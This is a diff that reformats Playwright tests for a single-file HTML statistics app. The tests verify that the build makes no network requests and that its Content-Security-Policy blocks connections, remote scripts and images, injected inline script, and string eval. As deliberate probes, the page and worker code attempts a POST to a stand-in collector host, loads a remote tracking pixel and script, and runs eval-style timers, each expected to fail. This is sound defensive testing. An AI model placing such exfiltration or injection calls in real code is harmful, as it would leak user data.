@@ -20,14 +20,19 @@ let pageUrl = '';
 test.beforeAll(() => {
   test.setTimeout(240_000);
   outDir = mkdtempSync(join(tmpdir(), 'fulcra-single-'));
-  execFileSync('npx', ['vite', 'build', '--mode', 'single', '--outDir', outDir, '--emptyOutDir', '--logLevel', 'error'],
-    { cwd: ROOT, stdio: 'pipe', env: { ...process.env, NODE_ENV: 'production' } });
+  execFileSync(
+    'npx',
+    ['vite', 'build', '--mode', 'single', '--outDir', outDir, '--emptyOutDir', '--logLevel', 'error'],
+    { cwd: ROOT, stdio: 'pipe', env: { ...process.env, NODE_ENV: 'production' } },
+  );
   const file = join(outDir, 'fulcra.html');
   if (!existsSync(file)) throw new Error(`the single-file build wrote no ${file}`);
   pageUrl = pathToFileURL(file).href;
 });
 
-test.afterAll(() => { if (outDir) rmSync(outDir, { recursive: true, force: true }); });
+test.afterAll(() => {
+  if (outDir) rmSync(outDir, { recursive: true, force: true });
+});
 
 /** Every request (started, failed, answered), console error and uncaught error of the page, and its workers. */
 function watch(page: Page) {
@@ -39,7 +44,9 @@ function watch(page: Page) {
   page.on('request', (r) => requests.push(r.url()));
   page.on('requestfailed', (r) => failed.push({ url: r.url(), error: r.failure()?.errorText ?? '' }));
   page.on('response', (r) => responses.push(r.url()));
-  page.on('console', (m) => { if (m.type() === 'error') errors.push(m.text()); });
+  page.on('console', (m) => {
+    if (m.type() === 'error') errors.push(m.text());
+  });
   page.on('pageerror', (e) => errors.push(String(e)));
   page.on('worker', (w) => workers.push(w.url()));
   return { requests, errors, workers, failed, responses };
@@ -47,13 +54,18 @@ function watch(page: Page) {
 
 test('is one HTML file that loads nothing but itself', () => {
   const html = readFileSync(fileURLToPath(pageUrl), 'utf8');
-  const outsideOfItself = [...html.replace(/<(script|style)\b[^>]*>[\s\S]*?<\/\1>/g, '')
-    .matchAll(/\b(?:src|href)\s*=\s*["']?([^"'\s>]+)/gi)].map((m) => m[1]).filter((u) => !u.startsWith('data:'));
+  const outsideOfItself = [
+    ...html.replace(/<(script|style)\b[^>]*>[\s\S]*?<\/\1>/g, '').matchAll(/\b(?:src|href)\s*=\s*["']?([^"'\s>]+)/gi),
+  ]
+    .map((m) => m[1])
+    .filter((u) => !u.startsWith('data:'));
   expect(outsideOfItself).toEqual([]);
   expect(html).toMatch(/<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'sha256-/);
 });
 
-test('opened from file:// it fits the demo model in a classic blob worker, with no request beyond file:/blob:/data: and no console error', async ({ page }) => {
+test('opened from file:// it fits the demo model in a classic blob worker, with no request beyond file:/blob:/data: and no console error', async ({
+  page,
+}) => {
   const seen = watch(page);
   await page.goto(pageUrl);
   await page.getByRole('button', { name: /Surgical-site infections/ }).click();
@@ -63,7 +75,9 @@ test('opened from file:// it fits the demo model in a classic blob worker, with 
   const demo = generateDemo('ssi');
   const ref = fit(demo.dataset, demo.spec, { method: 'ml', level: 0.95, profile: true });
   for (const c of ref.coefficients) {
-    await expect(table.locator(`tr[data-name="${c.name}"] td[data-col="estimate"]`)).toHaveText(c.estimate.toFixed(4).replace('-', '−'));
+    await expect(table.locator(`tr[data-name="${c.name}"] td[data-col="estimate"]`)).toHaveText(
+      c.estimate.toFixed(4).replace('-', '−'),
+    );
   }
 
   await page.getByRole('button', { name: 'Score & validate' }).click();
@@ -77,8 +91,14 @@ test('opened from file:// it fits the demo model in a classic blob worker, with 
   expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
 
   expect(seen.workers.length).toBeGreaterThanOrEqual(1);
-  expect(seen.workers.every((u) => u.startsWith('blob:')), seen.workers.join(', ')).toBe(true);
-  expect(seen.requests.filter((u) => !ON_DISK.test(u)), 'requests beyond file:/blob:/data:').toEqual([]);
+  expect(
+    seen.workers.every((u) => u.startsWith('blob:')),
+    seen.workers.join(', '),
+  ).toBe(true);
+  expect(
+    seen.requests.filter((u) => !ON_DISK.test(u)),
+    'requests beyond file:/blob:/data:',
+  ).toEqual([]);
   expect(seen.errors, 'console errors').toEqual([]);
 });
 
@@ -90,7 +110,11 @@ test('its policy refuses connections, remote images, remote and injected scripts
     const refused: string[] = [];
     document.addEventListener('securitypolicyviolation', (e) => refused.push(e.effectiveDirective));
     let fetchFailed = false;
-    try { await fetch('https://collector.example.com/upload', { method: 'POST', body: 'x' }); } catch { fetchFailed = true; }
+    try {
+      await fetch('https://collector.example.com/upload', { method: 'POST', body: 'x' });
+    } catch {
+      fetchFailed = true;
+    }
     new Image().src = 'https://images.example.com/pixel.png';
     const s = document.createElement('script');
     s.src = 'https://cdn.example.com/lib.js';
@@ -102,7 +126,12 @@ test('its policy refuses connections, remote images, remote and injected scripts
     (setTimeout as (code: string, ms: number) => number)('window.__evalRan = true', 0);
     await new Promise((r) => setTimeout(r, 500));
     const w = window as unknown as { __inlineRan?: boolean; __evalRan?: boolean };
-    return { refused: [...new Set(refused)].sort(), fetchFailed, inlineRan: w.__inlineRan === true, evalRan: w.__evalRan === true };
+    return {
+      refused: [...new Set(refused)].sort(),
+      fetchFailed,
+      inlineRan: w.__inlineRan === true,
+      evalRan: w.__evalRan === true,
+    };
   });
   expect(probe.fetchFailed).toBe(true);
   expect(probe.inlineRan).toBe(false);
@@ -111,7 +140,10 @@ test('its policy refuses connections, remote images, remote and injected scripts
   // Chromium reports a refused image or script as a request that failed with reason "csp" before reaching the network.
   await expect.poll(() => seen.failed.filter((f) => !ON_DISK.test(f.url)).length).toBe(2);
   expect(seen.failed.filter((f) => !ON_DISK.test(f.url)).map((f) => f.error)).toEqual(['csp', 'csp']);
-  expect(seen.responses.filter((u) => !ON_DISK.test(u)), 'responses from beyond file:/blob:/data:').toEqual([]);
+  expect(
+    seen.responses.filter((u) => !ON_DISK.test(u)),
+    'responses from beyond file:/blob:/data:',
+  ).toEqual([]);
 });
 
 test('its blob: worker inherits the policy: it can neither connect nor eval', async ({ page }) => {
@@ -119,24 +151,44 @@ test('its blob: worker inherits the policy: it can neither connect nor eval', as
   await expect.poll(() => page.workers().length).toBeGreaterThanOrEqual(1);
   const probe = await page.workers()[0].evaluate(async () => {
     const refused: string[] = [];
-    self.addEventListener('securitypolicyviolation', (e) => refused.push((e as SecurityPolicyViolationEvent).effectiveDirective));
+    self.addEventListener('securitypolicyviolation', (e) =>
+      refused.push((e as SecurityPolicyViolationEvent).effectiveDirective),
+    );
     // Without the policy a blob: fetch succeeds; a string timer is worker code (evaluate's own code is exempt).
-    const blob = await fetch(URL.createObjectURL(new Blob(['x']))).then(() => 'fetched', () => 'refused');
+    const blob = await fetch(URL.createObjectURL(new Blob(['x']))).then(
+      () => 'fetched',
+      () => 'refused',
+    );
     (setTimeout as (code: string, ms: number) => number)('self.__evalRan = true', 0);
     await new Promise((r) => setTimeout(r, 300));
-    return { blob, evalRan: (self as unknown as { __evalRan?: boolean }).__evalRan === true, refused: [...new Set(refused)].sort() };
+    return {
+      blob,
+      evalRan: (self as unknown as { __evalRan?: boolean }).__evalRan === true,
+      refused: [...new Set(refused)].sort(),
+    };
   });
   expect(probe).toEqual({ blob: 'refused', evalRan: false, refused: ['connect-src', 'script-src'] });
 });
 
-test('opened from file:// it imports a large Excel workbook, whose unzipper starts a blob: worker inside the engine worker', async ({ page }) => {
+test('opened from file:// it imports a large Excel workbook, whose unzipper starts a blob: worker inside the engine worker', async ({
+  page,
+}) => {
   const seen = watch(page);
   const sheet: XCell[][] = [['case_id', 'ward', 'age', 'infected']];
-  for (let i = 0; i < 20_000; i++) sheet.push([i + 1, `W${1 + (i % 5)}`, 40 + ((i * 7919) % 50), i % 9 === 0 ? 'yes' : 'no']);
+  for (let i = 0; i < 20_000; i++)
+    sheet.push([i + 1, `W${1 + (i % 5)}`, 40 + ((i * 7919) % 50), i % 9 === 0 ? 'yes' : 'no']);
   await page.goto(pageUrl);
-  await page.getByTestId('file-input').setInputFiles({ name: 'cases.xlsx', mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
-    buffer: Buffer.from(makeXlsx([{ name: 'Cases', rows: sheet }], true)) });
+  await page
+    .getByTestId('file-input')
+    .setInputFiles({
+      name: 'cases.xlsx',
+      mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+      buffer: Buffer.from(makeXlsx([{ name: 'Cases', rows: sheet }], true)),
+    });
   await expect(page.getByText('20,000 rows × 4 columns')).toBeVisible({ timeout: 60_000 });
-  expect(seen.requests.filter((u) => !ON_DISK.test(u)), 'requests beyond file:/blob:/data:').toEqual([]);
+  expect(
+    seen.requests.filter((u) => !ON_DISK.test(u)),
+    'requests beyond file:/blob:/data:',
+  ).toEqual([]);
   expect(seen.errors, 'console errors').toEqual([]);
 });
